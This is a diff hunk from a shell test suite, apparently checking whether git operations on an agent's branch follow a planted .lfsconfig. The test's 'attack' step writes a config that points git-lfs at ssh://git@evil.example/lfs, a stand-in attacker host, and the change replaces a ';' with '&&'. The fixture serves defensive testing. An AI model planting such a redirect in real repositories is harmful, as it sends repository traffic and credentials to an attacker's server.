@@ -208,7 +208,7 @@ test_expect_success GITLFS 'GT-18: git-lfs, and a .lfsconfig that names another 
 	printf "*.bin filter=lfs diff=lfs merge=lfs -text\n" >.gitattributes && git add a .gitattributes && git commit -qm base &&
 	oid=$(printf %064d 1) && printf "version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 5\n" "$oid" >../pointer &&
 	git update-index --add --cacheinfo "100644,$(git hash-object -w --no-filters ../pointer),x.bin" && git commit -qm pointer && cp ../pointer x.bin &&
-	git update-index -q --refresh; git config lfs.transfer.maxretries 1 && git config lfs.skipdownloaderrors true &&
+	git update-index -q --refresh && git config lfs.transfer.maxretries 1 && git config lfs.skipdownloaderrors true &&
 	attack e "echo w >w; printf \"[lfs]\n\turl = ssh://git@evil.example/lfs\n\" >.lfsconfig" &&
 	every="merge ff switch worktree stash archive" &&
 	do_switch() { on_branch && rm x.bin && git checkout -q x.bin; } && do_worktree() { git worktree add -q ../wt agent/e; } &&
